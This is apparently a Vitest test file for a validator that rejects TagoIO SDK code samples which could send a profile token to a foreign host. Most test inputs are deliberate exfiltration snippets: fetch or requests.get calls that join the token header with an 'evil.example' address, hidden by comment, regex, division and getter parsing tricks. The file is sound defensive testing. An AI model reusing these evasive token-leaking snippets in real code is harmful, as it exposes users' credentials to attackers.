import { describe, expect, it } from 'vitest';
import { destinationProblem } from '../../../../../lib/domain/samples/destinations/check-destinations.ts';
import { profileTokenPlaces } from '../../../../../lib/domain/samples/token-placeholders.ts';
import { US } from '../../make.ts';

const SDK = 'import { Account } from "@tago-io/sdk";\n';
const ACCOUNT = `${SDK}const account = new Account({ token: "YOUR-PROFILE-TOKEN" });\n`;
const PYTHON = 'from tagoio_sdk import Account\n\naccount = Account({"token": "your-token"})\n';
/** What could be put together to a foreign address, and the headers with the token. */
const PIECES =
  'const a = "https://api.us-e1.tago.io";\nconst b = ".evil.example/";\nconst headers = { "Profile-Token": "YOUR-PROFILE-TOKEN" };\n';
const PYTHON_PIECES =
  'import requests\n\na = "https://api.us-e1.tago.io"\nb = ".evil.example/"\nheaders = {"Profile-Token": "YOUR-PROFILE-TOKEN"}\n';
/** The same for another host of the SDK. */
const HOST =
  'const s = "https";\nconst c = ":";\nconst d = "/";\nconst e = "evil.";\nconst f = "example";\nconst u = s + c + d + d + e + f;\n';
const PYTHON_HOST = HOST.replaceAll('const ', '').replaceAll(';\n', '\n');

describe('code that seems to be text, or another kind of code', () => {
  it.each([
    // Regular expressions.
    `${PIECES}const r = /"/; fetch(a + b, { headers }); const t = /"/;`,
    `${PIECES}const r = /[']/; fetch(a + b, { headers }); const t = /[']/;`,
    `${PIECES}const n = 1;\nif (n) /"/.test("x"); fetch(a + b, { headers }); /"/;`,
    `${PIECES}const n = () => /"/; fetch(a + b, { headers }); const t = /"/;`,
    `${PIECES}with (a) /"/; fetch(a + b, { headers }); /"/;`,
    `${PIECES}for await (const n of a) /"/.test("x"); fetch(a + b, { headers }); /"/;`,
    // Comments that end earlier, or begin later, than they seem to.
    `${PIECES}/* one */ fetch(a + b, { headers }) /* two */`,
    `${PIECES}/* one\ntwo */ fetch(a + b, { headers }) /* three */`,
    `${PIECES}/*/\nconst x = "*/ fetch(a + b, { headers }); //";`,
    `${PIECES}const n = 1; <!-- "\nfetch(a + b, { headers });`,
    `${PYTHON_PIECES}/*\nrequests.get(a + b, headers=headers)\n*/`,
    // A private field in JavaScript, a comment in Python.
    `${PIECES}class A {\n  #f = fetch(a + b, { headers })\n}\nconst x = new A();`,
    `${PIECES}// const class\nconst x = class {\n  #f = fetch(a + b, { headers })\n};`,
    // A comment in JavaScript, a division in Python.
    `${PYTHON_PIECES}x = 5 //requests.get(a + b, headers=headers).status_code`,
    `${PYTHON_PIECES}x = 5 // requests.get(a + b, headers=headers).status_code`,
    `${PYTHON_PIECES}x = (5\n// requests.get(a + b, headers=headers).status_code)`,
    `${PYTHON_PIECES}x = (5\n// see\n(a))`,
    `${PYTHON_PIECES}u = a + b\nx = requests.get(a\n// 1 if 0 else u\n, headers=headers)`,
    `${PYTHON_PIECES}u = a + b\nx = 5 // 1if a else requests.get(u)`,
    // Imports.
    `${PIECES}const from = 1;\nfrom, fetch(a + b, { headers });`,
    `${PIECES}const from = [];\nfrom.x, fetch(a + b, { headers });`,
    `${PIECES}import.meta, fetch(a + b, { headers });`,
    `${PIECES}const { x = fetch(a + b, { headers }) } = require("axios");`,
    `${SDK}const o = {};\nconst from = 1;\nconst token = "YOUR-PROFILE-TOKEN";\nfrom, new Account(o + o);`,
    // Names that only a text declares.
    `${ACCOUNT}const note = "let performance";\nperformance.now();`,
    `${ACCOUNT}// let performance\nperformance.now();`,
  ])('is refused: %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });
});

describe('an option that is hidden', () => {
  it.each([
    // By a comment between its name and its value.
    `${SDK}${HOST}const account = new Account({ token: "YOUR-PROFILE-TOKEN", "region"/**/: { "api"/**/: u } });`,
    `${SDK}${HOST}const account = new Account({ token: "YOUR-PROFILE-TOKEN", "region" // x\n: { "api" // x\n: u } });`,
    `${SDK}${HOST}const account = new Account({ token: "YOUR-PROFILE-TOKEN", "region"\n/* x */\n: { "api"\n/* x */\n: u } });`,
    `from tagoio_sdk import Account\n${PYTHON_HOST}account = Account({"token": "your-token", "region" # x\n: {"api" # x\n: u}})`,
    // In a getter or a method.
    `${SDK}${HOST}const get = 1;\nconst account = new Account({ token: "YOUR-PROFILE-TOKEN", get\n"region"() { return { get\n"api"() { return u; } }; } });`,
    `${SDK}${HOST}const get = 1;\nconst account = new Account({ token: "YOUR-PROFILE-TOKEN", get\nregion() { return { get\napi() { return u; } }; } });`,
    `${PIECES}const axios = require("axios");\naxios.get("https://api.us-e1.tago.io/x", { headers, lookup(x, y, z) { return z; } });`,
    `${PIECES}const axios = require("axios");\naxios.get("https://api.us-e1.tago.io/x", { headers, async lookup(x, y, z) { return z; } });`,
    // In an assignment within braces.
    `${PYTHON_PIECES}x = {a:=a + b}\nr = requests.get(a, headers=headers)`,
    `from tagoio_sdk import Account\no = {"token": "your-token"}\nx = {o:=1}\naccount = Account(o)`,
  ])('is refused: %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });
});

describe('comments, divisions and imports of a program that keeps its token', () => {
  it.each([
    `/**\n * Lists all devices (at most 100).\n * @param {string} name the device's name\n */\n${ACCOUNT}`,
    `/* Lists "all" devices (one by one) */\n${ACCOUNT}// The account's name = what it is called (in the list).\nconsole.log(await account.info()); // as an object (JSON)`,
    `${ACCOUNT}account.devices.list({\n  page: 1, // the first (of all)\n  // how many (at most)\n  amount: 20 // as many as a page's\n});`,
    `${ACCOUNT}const list = await account.devices.list()\nconsole.log(list) // prints the list (all of it)`,
    `${ACCOUNT}const list = await account.devices.list();\nconsole.log(list.length / 2, (list.length + 1) / 2);`,
    `${PYTHON}#Gets all devices (one page)\ndevices = account.devices.list() # the first page's\nhalf = len(devices) // 2\nprint(half, len(devices) / 2)`,
    `import {\n  Account,\n  Utils,\n} from "@tago-io/sdk";\nimport * as sdk from "@tago-io/sdk";\nconst account = new Account({ token: "YOUR-PROFILE-TOKEN" });`,
    `import os, json\nfrom datetime import datetime, timedelta\nfrom tagoio_sdk import Account, Device\naccount = Account({"token": "your-token"})`,
  ])('%j', (text) => {
    expect(profileTokenPlaces(text)).toHaveLength(1);
    expect(destinationProblem(text, US)).toBeNull();
  });
});
